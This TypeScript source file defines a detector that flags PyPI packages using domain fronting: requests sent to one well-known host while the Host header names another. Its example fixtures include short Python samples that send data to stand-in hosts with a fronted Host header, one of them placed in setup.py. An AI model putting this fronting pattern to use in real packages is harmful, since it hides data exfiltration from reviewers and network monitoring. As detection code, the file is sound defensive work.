import { marks } from "../behaviour/marks.ts";
import { deedsOf } from "../behaviour/trace.ts";
import type { Detector } from "../detector.ts";
import { codeWith, sight } from "./_sight.ts";

const LITERALS = ["'host'", '"host"'] as const;
/** The header that says for whom the request is, with a constant host. */
const HEADER =
  /["']host["']\s{0,10}(?:[:,]|\]\s{0,4}=)\s{0,10}["']([\w-]{1,63}(?:\.[\w-]{1,63}){1,8})(?::\d{1,5})?["']/gi;
const ADDRESS = /https?:\/\/([\w-]{1,63}(?:\.[\w-]{1,63}){1,8})/gi;
/** Characters around the header in which the address has to stand. */
const AROUND = 600;
const MOST = 20;

export const frontsDomain: Detector = {
  id: "fronts-domain",
  title: "Asks one host by the name of another",
  severity: "high",
  ecosystems: ["pypi"],
  points: 3.4,
  class: "threat",
  group: "hidden-address",
  why: `A request goes to a well-known address and names another host in its \`Host\` header. Servers that many sites share deliver it to
the other one, while name lookups, proxies and readers of the code see only the well-known name. Remote-control programs hide that way.

Tests of web servers set the header to see how it is handled, usually on this machine or by number; those pass.`,
  literals: LITERALS,
  *detect(tree) {
    for (const file of codeWith(tree, LITERALS)) {
      if (file.kind !== "python" || !marks("http").some((mark) => file.has(mark))) continue;
      if (/(?:^|\/)tests?\//.test(file.path) || deedsOf(file, "http", "upload").length === 0) continue;
      let looked = 0;
      for (const { 1: named = "", index } of file.text.matchAll(HEADER)) {
        if (looked++ >= MOST) break;
        const around = file.text.slice(Math.max(0, index - AROUND), index + AROUND);
        const other = [...around.matchAll(ADDRESS)].slice(0, MOST).find(([, host = ""]) => areStrangers(host, named));
        if (other === undefined) continue;
        yield sight(file, index, `asks ${other[1]} for ${named}`);
      }
    }
  },
  examples: {
    matches: [
      {
        ecosystem: "pypi",
        files: {
          "demo/__init__.py":
            "from urllib import request\nH = {'Host': 'collect.other.test'}\nr = request.Request('https://example.invalid/a?d=' + d, headers=H)\nrequest.urlopen(r)\n",
        },
      },
    ],
    passes: [
      {
        ecosystem: "pypi",
        files: {
          "demo/a.py":
            "import requests\nrequests.get('https://api.example.invalid/x', headers={'Host': 'www.example.invalid'})\nrequests.get('http://127.0.0.1/', headers={'Host': 'example.invalid'})\n",
        },
      },
    ],
    evasions: [
      {
        ecosystem: "pypi",
        files: {
          "setup.py":
            'import requests\ns = requests.Session()\ns.headers["hOST"] = "collect.other.test"\ns.get("https://example.invalid/a")\nrequests.get("https://example.invalid")\n',
        },
      },
    ],
  },
};

/** Two names of which neither belongs to the domain of the other; numbers are no names. */
function areStrangers(one: string, other: string): boolean {
  if (/^[\d.]+$/.test(one) || /^[\d.]+$/.test(other)) return false;
  return domainOf(one) !== domainOf(other);
}

/** The last two labels, three where the last is a country's and the one before is short: `example.co.uk`. */
function domainOf(host: string): string {
  const labels = host.toLowerCase().split(".");
  const many = /^[a-z]{2}$/.test(labels.at(-1) ?? "") && (labels.at(-2)?.length ?? 0) <= 3 ? 3 : 2;
  return labels.slice(-many).join(".");
}
